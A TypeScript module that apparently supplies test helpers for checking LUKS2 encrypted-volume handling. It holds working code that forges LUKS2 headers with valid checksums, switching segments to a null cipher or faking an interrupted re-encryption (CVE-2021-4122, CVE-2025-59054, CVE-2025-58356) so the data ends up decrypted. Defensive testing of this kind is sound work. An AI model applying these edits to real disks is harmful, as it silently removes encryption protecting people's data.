import {createHash} from 'node:crypto'
import {readFile, truncate, writeFile} from 'node:fs/promises'
import {join} from 'node:path'

import {run} from 'cc-core/exec'

/** LUKS2 On-Disk Format Specification, chapter 2: a binary header of 4096 bytes, then JSON; all of it twice. */
const binaryBytes = 4096
const sizeAt = 8
const checksumAt = 448
const checksumBytes = 64

/**
 * Change the metadata of a LUKS2 header, both copies, with the right checksums: nothing in it is authenticated, so
 * whoever can write it can do that without any key.
 */
export function editHeader(header: Buffer, change: (json: string) => string): Buffer {
  const edited = Buffer.from(header)
  const bytes = Number(edited.readBigUInt64BE(sizeAt))
  for (const start of [0, bytes]) {
    const area = edited.subarray(start, start + bytes)
    const json = change(area.subarray(binaryBytes).toString('utf8').replace(/\0.*$/s, ''))
    area.fill(0, binaryBytes)
    area.write(json, binaryBytes, 'utf8')
    area.fill(0, checksumAt, checksumAt + checksumBytes)
    createHash('sha256').update(area).digest().copy(area, checksumAt)
  }
  return edited
}

/** CVE-2025-59054, CVE-2025-58356: the data is then no longer encrypted, and the right key still opens the header. */
export const withNullCipher = (header: Buffer): Buffer =>
  editHeader(header, (json) => {
    const metadata = JSON.parse(json) as {segments: Record<string, {encryption: string}>}
    for (const segment of Object.values(metadata.segments)) segment.encryption = 'cipher_null-ecb'
    return JSON.stringify(metadata)
  })

/** A re-encryption that says it was interrupted (CVE-2021-4122): cryptsetup would then decrypt the data in place. */
export const withRequirement = (header: Buffer): Buffer =>
  editHeader(header, (json) => {
    const metadata = JSON.parse(json) as {config: Record<string, unknown>}
    metadata.config['requirements'] = {mandatory: ['online-reencrypt-v2']}
    return JSON.stringify(metadata)
  })

/** The header of another volume that the same key opens. */
export async function otherHeader(folder: string, keyFile: string, inDevice = false): Promise<Buffer> {
  const volume = join(folder, 'volume')
  await writeFile(volume, '')
  await truncate(volume, 32 * 1024 ** 2)
  const quick = ['--pbkdf', 'pbkdf2', '--pbkdf-force-iterations', '1000', '--disable-locks', '--key-file', keyFile]
  const small = ['--luks2-metadata-size', '16k', '--luks2-keyslots-size', '512k', '--sector-size', '4096']
  await run([...['cryptsetup', 'luksFormat', '--batch-mode', '--type', 'luks2'], ...small, ...quick, volume])
  const content = await readFile(volume)
  // Behind both copies of the metadata are the keyslots; then comes the data.
  return Buffer.from(content.subarray(0, inDevice ? content.length / 2 : 32768 + 512 * 1024))
}
